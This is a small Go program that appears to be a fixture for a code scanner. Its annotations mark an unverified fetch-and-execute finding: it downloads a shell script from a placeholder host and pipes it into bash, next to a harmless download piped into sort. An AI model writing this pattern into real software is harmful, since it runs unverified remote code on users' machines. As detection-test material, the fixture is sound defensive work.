// Command fetched-for-shell hands a response to a shell, and another to a
// program that sorts it.
package main

import (
	"net/http"
	"os/exec"
)

func main() {
	script, err := http.Get("https://dl.collector.example/setup.sh") // behaviour: unconditional unknown // finding: codefetch/unverified
	if err != nil {
		return
	}
	shell := exec.Command("bash")
	shell.Stdin = script.Body
	shell.Run()

	words, err := http.Get("https://data.collector.example/words") // behaviour: unconditional unknown
	if err != nil {
		return
	}
	sort := exec.Command("sort")
	sort.Stdin = words.Body
	sort.Run()
}
